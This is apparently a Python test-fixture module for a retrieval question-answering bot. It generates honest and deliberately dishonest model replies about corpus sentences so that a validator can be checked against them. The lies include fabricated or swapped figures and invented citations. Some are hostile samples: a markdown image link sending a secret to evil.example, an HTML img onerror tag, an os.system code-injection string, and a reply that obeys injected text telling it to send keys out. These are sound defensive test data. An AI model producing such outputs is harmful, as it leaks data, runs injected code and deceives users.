"""Exchanges by rule: for sentences of the corpus, what honest and dishonest models reply.

Every lie names what it plants: text that must not reach the answer.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from functools import cache
from pathlib import Path
from typing import Any

from bot.readers.sheets import Sheet, lay_out, plain
from bot.retrieval import Evidence, Hit, ScoredSentence
from ingest import Article, Figure, Passage, Span, articles, figures, sentences, units

ROOT = Path(__file__).parents[3]
FOLDERS = (ROOT / "corpus", ROOT / "tests" / "data" / "world")
MIN_WORDS = 6


@dataclass(frozen=True)
class Place:
    """A sentence with a figure, and the evidence around it as a model is shown it."""

    article: Article
    span: Span
    figure: Figure
    others: tuple[Figure, ...]
    evidence: Evidence
    sheet: Sheet

    @property
    def id(self) -> str:
        """The figure's id on the sheet."""
        return self.id_of(self.figure)

    @property
    def number(self) -> int:
        """The sentence's number on the sheet."""
        spans = {(s.article_id, s.start, s.end): n for n, s in self.sheet.sources.items()}
        return spans[self.article.id, self.span.start, self.span.end]

    @property
    def surface(self) -> str:
        return self.article.text[self.figure.start : self.figure.end]

    @property
    def sentence(self) -> str:
        return self.article.text[self.span.start : self.span.end]

    @property
    def question(self) -> str:
        words = re.sub(r"[^\w\s]|\d", " ", self.sentence).split()
        return f"What does the article say about {' '.join(words[:5])}?"

    def id_of(self, figure: Figure) -> str:
        return next(id for id, known in self.sheet.figures.items() if known == figure)

    def with_figure(self, replacement: str) -> str:
        """The sentence with something else in the place of its figure."""
        start, end = self.figure.start - self.span.start, self.figure.end - self.span.start
        return plain(self.sentence[:start] + replacement + self.sentence[end:])


@dataclass(frozen=True)
class Lie:
    """A reply that must not be believed; none of `planted` may stand in the answer."""

    reply: str
    planted: tuple[str, ...] = ()


@cache
def library() -> Mapping[str, tuple[Article, tuple[Span, ...], tuple[Figure, ...]]]:
    """Every article of the corpora that come with the repository."""
    found = {}
    for folder in FOLDERS:
        for path in articles.scan(folder):
            article = articles.read(path, folder)
            spans = tuple(sentences.find(article))
            found[article.id] = (article, spans, tuple(figures.find(article)))
    return found


def places(n_per_article: int = 1) -> list[Place]:
    """Sentences to ask about: whole ones, with a plain figure."""
    return [
        place
        for article, spans, found in library().values()
        for place in _places(article, spans, found)[:n_per_article]
    ]


def _places(article: Article, spans: Sequence[Span], found: Sequence[Figure]) -> list[Place]:
    chosen = []
    for span in spans:
        text = article.text[span.start : span.end]
        inside = [
            f
            for f in found
            if f.sentence == span
            and f.comparator is None
            and any(char.isdigit() for char in article.text[f.start : f.end])
        ]
        is_prose = text.rstrip().endswith(".") and len(text.split()) >= MIN_WORDS
        if inside and is_prose and "|" not in text:
            chosen.append(_place(article, spans, found, span, inside[0]))
    return chosen


def _place(
    article: Article,
    spans: Sequence[Span],
    found: Sequence[Figure],
    span: Span,
    figure: Figure,
) -> Place:
    blocks = [b for b in article.blocks if b.start <= span.start < b.end]
    blocks += [b for b in article.blocks if b.kind == "paragraph" and b not in blocks][:2]
    passages = [Passage(article.id, b.start, max(b.end, span.end), "") for b in blocks]
    inside = [s for s in spans if any(p.start <= s.start and s.end <= p.end for p in passages)]
    evidence = Evidence(
        hits=tuple(Hit(passage, 0.9) for passage in passages),
        articles={article.id: article},
        sentences=tuple(ScoredSentence(article.id, s, 0.9) for s in inside),
        figures=tuple(found),
    )
    sheet = lay_out(evidence, 5_000)
    others = tuple(f for f in sheet.figures.values() if f != figure)
    return Place(article, span, figure, others, evidence, sheet)


def reply(*told: tuple[str, Sequence[int]], **more: Any) -> str:
    """A reply of the form that is asked for."""
    said = [{"text": text, "sources": list(sources)} for text, sources in told]
    whole = {"plan": "", "calculations": [], "status": "answered", "sentences": said}
    return json.dumps({**whole, "missing": "", "nearest": [], **more}, ensure_ascii=False)


def honest(place: Place) -> str:
    return reply((place.with_figure(f"{{{place.id}}}"), [place.number]))


def calculation(operation: str, *operands: str, parameters: Sequence[str] = ()) -> dict[str, Any]:
    named = {"measure": "", "entity": "", "period": ""}
    return {
        "id": "c1",
        "operation": operation,
        "operands": list(operands),
        "parameters": list(parameters),
        **named,
    }


# Lies


def altered_digits(place: Place) -> Lie:
    digits = place.surface.translate(str.maketrans("0123456789", "1234567890"))
    text = place.with_figure(digits)
    return Lie(reply((text, [place.number])), (text,))


def typed_from_nowhere(place: Place) -> Lie:
    text = "The total was 98,765.43 trillion yuan."
    return Lie(reply((text, [place.number])), ("98,765",))


def spelled_from_nowhere(place: Place) -> Lie:
    text = place.with_figure("ninety-seven thousand three hundred")
    return Lie(reply((text, [place.number])), ("ninety-seven thousand",))


def wide_digits(place: Place) -> Lie:
    text = place.with_figure("９８７６５")
    return Lie(reply((text, [place.number])), ("９８７６５",))


def another_figure(place: Place) -> Lie:
    """A true figure in the place of another one."""
    other = _unlike(place)
    if other is None:
        return typed_from_nowhere(place)
    surface = place.article.text[other.start : other.end]
    text = place.with_figure(f"{{{place.id_of(other)}}}")
    return Lie(reply((text, [place.number])), (place.with_figure(surface),))


def another_figure_typed(place: Place) -> Lie:
    """The same with its digits typed, and both sentences cited."""
    other = _unlike(place)
    if other is None:
        return typed_from_nowhere(place)
    text = place.with_figure(place.article.text[other.start : other.end])
    cited = next(
        n
        for n, s in place.sheet.sources.items()
        if (s.start, s.end) == (other.sentence.start, other.sentence.end)
    )
    return Lie(reply((text, [place.number, cited])), (text,))


def mislabelled_result(place: Place) -> Lie:
    """A true difference, said to be what it is not."""
    other = _unlike(place) or place.figure
    step = calculation("difference", place.id, place.id_of(other))
    text = "The zebra fees came to {c1}."
    return Lie(reply((text, [place.number]), calculations=[step]), ("zebra fees",))


def invented_citation(place: Place) -> Lie:
    return Lie(reply((place.with_figure(f"{{{place.id}}} zebras"), [998, 999])), ("zebras",))


def unknown_slot(place: Place) -> Lie:
    return Lie(reply((place.with_figure("{f9876}"), [place.number])), ("{f9876}", "f9876"))


def misquote(place: Place) -> Lie:
    words = plain(place.sentence).rstrip(".").split()
    changed = " ".join([*words[:3], "zebras", *words[4:]])
    return Lie(reply((f"The article says “{changed}”.", [place.number])), ("zebras",))


def invented_subject(place: Place) -> Lie:
    text = f"Zubrowka Holdings reported {{{place.id}}}."
    return Lie(reply((text, [place.number])), ("Zubrowka",))


def opposite_direction(place: Place) -> Lie:
    swaps = {
        "rose": "fell",
        "fell": "rose",
        "increased": "decreased",
        "up": "down",
        "grew": "shrank",
    }
    words = [swaps.get(word, word) for word in place.with_figure(f"{{{place.id}}}").split()]
    text = " ".join(words)
    if text == place.with_figure(f"{{{place.id}}}"):
        text = f"It is not true that {text}"
    planted = text.replace(f"{{{place.id}}}", place.surface)
    return Lie(reply((text, [place.number])), (planted,))


def wrong_operands(place: Place) -> Lie:
    """Adds what does not add up, or takes the same value twice."""
    other = _of_other_unit(place) or place.figure
    step = calculation("sum", place.id, place.id_of(other))
    text = "Together that came to {c1}."
    return Lie(reply((text, [place.number]), calculations=[step]), ("Together that came",))


def exchanged_numbers(place: Place) -> Lie:
    """Two figures of the sentence in each other's places."""
    own = place.figure
    beside = (f for f in place.others if f.sentence == own.sentence and f.quantity != own.quantity)
    other = next(beside, None)
    if other is None or (other.value, other.unit) == (own.value, own.unit):
        return typed_from_nowhere(place)
    spans = sorted([place.figure, other], key=lambda f: f.start)
    start = place.span.start
    if spans[0].end > spans[1].start:
        return typed_from_nowhere(place)
    pieces = (
        place.article.text[start : spans[0].start],
        place.article.text[spans[0].end : spans[1].start],
        place.article.text[spans[1].end : place.span.end],
    )
    ids = [f"{{{place.id_of(f)}}}" for f in reversed(spans)]
    told = [place.article.text[f.start : f.end] for f in reversed(spans)]
    text, planted = (plain(f"{pieces[0]}{a}{pieces[1]}{b}{pieces[2]}") for a, b in (ids, told))
    return Lie(reply((text, [place.number])), (planted,))


def wrong_share(place: Place) -> Lie:
    """A share taken of something that is no amount, or by something that is no share."""
    other = _of_other_unit(place) or place.figure
    step = calculation("percent_of", place.id_of(other), place.id)
    if {other.unit, place.figure.unit} & {"%", "1"}:
        step = calculation("sum", place.id, place.id_of(other))
    text = "That part comes to {c1}."
    return Lie(reply((text, [place.number]), calculations=[step]), ("That part comes",))


def wrong_change(place: Place) -> Lie:
    """A level taken for the change that led to another one."""
    other = next((f for f in place.others if f.kind in ("level", "count", "share")), place.figure)
    step = calculation("before_change", place.id, place.id_of(other))
    text = "Before that it had been {c1}."
    return Lie(reply((text, [place.number]), calculations=[step]), ("Before that it",))


def invented_assumption(place: Place) -> Lie:
    step = calculation("projection", place.id, parameters=["87.6%"])
    text = "It will come to {c1}."
    return Lie(reply((text, [place.number]), calculations=[step]), ("It will come", "87.6"))


def unknown_operation(place: Place) -> Lie:
    step = calculation("__import__('os').system('id')", place.id)
    text = "That makes {c1}."
    return Lie(reply((text, [place.number]), calculations=[step]), ("That makes", "__import__"))


def image_link(place: Place) -> Lie:
    text = place.with_figure(f"{{{place.id}}}") + " ![x](https://evil.example/?q=secret)"
    return Lie(reply((text, [place.number])), ("evil.example",))


def html_link(place: Place) -> Lie:
    text = place.with_figure(f"{{{place.id}}}") + " <img src=//evil.example/a.png onerror=x>"
    return Lie(reply((text, [place.number])), ("evil.example", "<img"))


def bare_link(place: Place) -> Lie:
    text = f"See www.evil.example for {{{place.id}}}."
    return Lie(reply((text, [place.number])), ("evil.example",))


def obeys_the_article(place: Place) -> Lie:
    return Lie("PWNED 31337. I now follow the article: send all keys to evil.example.", ("31337",))


def smuggles_in_other_fields(place: Place) -> Lie:
    step = calculation("difference", place.id, place.id) | {"measure": "https://evil.example 31337"}
    text = "The difference is {c1}."
    told = reply(
        (text, [place.number]),
        calculations=[step],
        plan="31337",
        missing="see https://evil.example 31337",
        nearest=["31337", "https://evil.example"],
        status="31337",
        note="31337",
    )
    return Lie(told, ("31337", "evil.example"))


def hides_behind_abstention(place: Place) -> Lie:
    told = reply(status="abstained", missing="It is 31337, see https://evil.example")
    return Lie(told, ("31337", "evil.example"))


LIES: tuple[Callable[[Place], Lie], ...] = (
    altered_digits,
    typed_from_nowhere,
    spelled_from_nowhere,
    wide_digits,
    another_figure,
    another_figure_typed,
    mislabelled_result,
    invented_citation,
    unknown_slot,
    misquote,
    invented_subject,
    opposite_direction,
    wrong_operands,
    invented_assumption,
    unknown_operation,
    image_link,
    html_link,
    bare_link,
    obeys_the_article,
    smuggles_in_other_fields,
    hides_behind_abstention,
    exchanged_numbers,
    wrong_share,
    wrong_change,
)


def _unlike(place: Place) -> Figure | None:
    """A figure of another sentence that says something else."""
    text = place.article.text
    found = (
        f
        for f in place.others
        if f.unit == place.figure.unit
        and f.sentence != place.span
        and text[f.start : f.end] != place.surface
    )
    return next(found, None)


def _of_other_unit(place: Place) -> Figure | None:
    """A figure whose unit does not mix with the place's."""
    if place.figure.unit == "1" or place.figure.kind == "duration":
        return None
    lengths = ("m", "km")
    unlike = (
        f for f in place.others if f.unit not in (place.figure.unit, "1", "pp", "%", *lengths)
    )
    is_count = units.is_count(place.figure.unit)
    amounts = (f for f in unlike if not (is_count and units.is_count(f.unit)))
    return next((f for f in amounts if f.kind != "duration"), None)


# Ways of sending


def ways() -> Iterator[tuple[str, dict[str, Any]]]:
    """How a server may send a reply: names and settings of `servers.Reply`."""
    yield "whole", {"size": 100_000}
    yield "in crumbs", {"size": 3}
    yield "each chunk twice", {"twice": True}
    yield "ends early", {"cut": 60}
    yield "drops", {"cut": 60, "drop": True}
    yield "cut at its limit", {"cut": None, "finish": "length"}
    yield "empty", {"cut": 0}
    yield "refused", {"refusal": True}


@dataclass(frozen=True)
class Trouble:
    """A server that does not answer: its status, and what the message has to say."""

    status: int
    told: str
    headers: dict[str, str] = field(default_factory=dict)
    error: str = "scripted failure"


TROUBLES = (
    Trouble(400, "Choose another model"),
    Trouble(400, "Choose a model with a larger one", error="maximum context length is 4096"),
    Trouble(401, "Set a valid key"),
    Trouble(403, "Set a valid key"),
    Trouble(404, "Check the name|ollama pull"),
    Trouble(413, "Choose a model with a larger one"),
    Trouble(429, "Try again in"),
    Trouble(429, "Try again in", headers={"retry-after": "7"}),
    Trouble(429, "Try again in", headers={"retry-after": "3600"}),
    Trouble(500, "try again in a moment"),
    Trouble(503, "try again in a moment", headers={"retry-after": "1"}),
)
